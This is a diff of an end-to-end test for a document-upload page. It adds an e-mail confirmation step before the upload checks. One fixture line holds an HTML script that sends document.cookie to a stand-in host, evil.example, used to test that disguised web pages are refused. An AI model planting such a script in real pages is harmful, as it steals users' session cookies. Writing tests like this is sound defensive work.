@@ -1,12 +1,15 @@
 import { fixture } from '../tests/support/files';
-import { expect, test, valueAndSignUp } from './support';
+import { confirmEmail, expect, test, valueAndSignUp } from './support';
 
 const JPEG = Buffer.from(fixture('photo.jpg'));
 const LETTER = Buffer.from(fixture('letter.pdf'));
 const WEB_PAGE = '<html><body><script>document.location="//evil.example/?"+document.cookie</script></body></html>';
 
-test('a file that hides a page, or is cut short, is refused on the same page with a reason; a whole one is taken', async ({ page }, testInfo) => {
-  await valueAndSignUp(page, `uploads.${testInfo.project.name}.${Date.now()}@example.co.uk`);
+test('a file that hides a page, or is cut short, is refused on the same page with a reason; a whole one is taken', async ({ page, javaScriptEnabled }, testInfo) => {
+  const email = `uploads.${testInfo.project.name}.${Date.now()}@example.co.uk`;
+  await valueAndSignUp(page, email);
+  // Documents wait for a proven address: the seller opens the link e-mailed at sign-up.
+  await confirmEmail(page, email, javaScriptEnabled);
   await page.goto('/KE19FTA/get-ahead/upload-documents');
   const v5c = page.getByTestId('document-v5c');
 
